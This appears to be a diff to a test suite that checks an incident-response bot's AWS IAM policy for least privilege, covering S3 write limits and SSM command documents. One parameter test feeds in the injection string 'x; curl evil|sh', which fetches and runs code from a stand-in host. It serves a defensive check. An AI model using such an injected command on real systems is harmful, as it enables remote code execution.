@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { actions, actionsCalledByCode, isRead, resources, shippedPolicy, shippedReasons, unjustifiedWildcardStatements, unjustifiedWritesOnStar, writesOnStar } from './support/iam-policy';
 
 /** Permissions AWS checks on behalf of a call, without a command of their own. */
@@ -51,8 +53,25 @@ describe('the least-privilege policy shipped in iam/ir-bot-policy.json', () => {
   it('touches S3 only in the configured Athena results, log, evidence and tools buckets', () => {
     const s3 = allows.filter((s) => actions(s).some((a) => a.startsWith('s3:'))).flatMap(resources);
     expect(s3.filter((r) => !/^arn:aws:s3:::example-(athena-results|cloudtrail-logs|vpc-flow-logs|ir-evidence|ir-tools)(\/.*)?$/.test(r))).toEqual([]);
-    const writes = allows.filter((s) => actions(s).includes('s3:PutObject')).flatMap(resources);
-    expect(writes.every((r) => /^arn:aws:s3:::example-(athena-results|ir-evidence)/.test(r) || r === 'arn:aws:s3:::example-ir-tools/*')).toBe(true);
+    const writes = allows.filter((s) => actions(s).some((a) => a.startsWith('s3:') && !isRead(a))).flatMap(resources);
+    expect(writes.every((r) => /^arn:aws:s3:::example-(athena-results|ir-evidence)/.test(r))).toBe(true);
+  });
+
+  it('cannot write the tools bucket whose binary every capture runs as root', () => {
+    const onTools = allows.filter((s) => resources(s).some((r) => r.startsWith('arn:aws:s3:::example-ir-tools')));
+    expect(onTools.flatMap(actions)).toEqual(['s3:GetObject']);
+  });
+
+  it('runs commands on instances only through our own SSM document, never AWS-RunShellScript', () => {
+    const send = allows.filter((s) => actions(s).some((a) => a === 'ssm:SendCommand' || a === 'ssm:*' || a === '*'));
+    expect(send.flatMap(resources).filter((r) => r.includes(':document/'))).toEqual(['arn:aws:ssm:*:*:document/ir-bot-memory-capture']);
+    expect(send.flatMap(resources).filter((r) => !r.includes(':document/'))).toEqual(['arn:aws:ec2:*:*:instance/*']);
+    const doc = JSON.parse(readFileSync(join(__dirname, '../deploy/ssm/memory-capture.json'), 'utf8'));
+    // A parameter that could carry a command would make the document a shell again.
+    for (const [name, p] of Object.entries<{ allowedPattern?: string; allowedValues?: string[] }>(doc.parameters)) {
+      expect([name, !!(p.allowedPattern || p.allowedValues)]).toEqual([name, true]);
+      if (p.allowedPattern) expect([name, new RegExp(p.allowedPattern).test('x; curl evil|sh')]).toEqual([name, false]);
+    }
   });
 
   it('writes IAM policies and keys only on users and roles, and can never change its own or break-glass identities', () => {
